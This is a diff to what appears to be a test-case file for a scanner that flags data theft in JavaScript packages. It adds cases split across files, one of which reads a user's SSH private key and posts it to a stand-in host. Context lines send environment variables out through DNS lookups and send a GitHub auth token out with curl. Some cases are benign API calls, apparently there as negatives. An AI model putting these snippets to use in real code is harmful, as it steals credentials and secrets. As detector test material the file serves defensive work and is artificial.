@@ -25,6 +25,17 @@ export default defineCases({
       code: "const dns = require('dns');\nconst t = Buffer.from(JSON.stringify({ ...process.env })).toString('hex');\ndns.resolve4(t.slice(0, 60) + '.collect.example', () => {})",
     },
     {
+      name: 'collected in one file, sent by another, started by a third',
+      files: {
+        'index.js':
+          "const { all } = require('./lib/collect');\nconst { report } = require('./lib/report');\nreport('start', all());",
+        'lib/collect.js':
+          "const fs = require('fs'), os = require('os');\nexports.all = () => ({ k: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8') });",
+        'lib/report.js':
+          "const https = require('https');\nfunction report(event, data) { const req = https.request('https://collect.example', { method: 'POST' }); req.end(JSON.stringify({ data })) }\nmodule.exports = { report };",
+      },
+    },
+    {
       name: 'by a child process',
       code: "const { execSync } = require('child_process');\nconst t = execSync('gh auth token').toString();\nexecSync('curl -d ' + t + ' https://collect.example')",
     },
@@ -53,6 +64,18 @@ export default defineCases({
     {
       name: 'a manifest of its own, sent for an update check',
       code: "const fs = require('fs');\nconst pkg = JSON.parse(fs.readFileSync(__dirname + '/package.json', 'utf8'));\nexports.check = () => fetch(`https://registry.example/${pkg.name}/latest`)",
+    },
+    {
+      name: 'a helper that sends, given one key',
+      files: {
+        'index.js':
+          "import { post } from './post.js';\nimport { settings } from './settings.js';\nawait post('/start', settings().url);",
+        'post.js':
+          'export async function post(path, base) { return fetch(base + path, { headers: { key: process.env.WEATHER_KEY } }) }',
+        'settings.js':
+          "export const settings = () => ({ url: process.env.WEATHER_URL ?? 'https://api.weather.example' })",
+      },
+      manifest: { type: 'module' },
     },
     {
       name: 'a proxy from the environment',
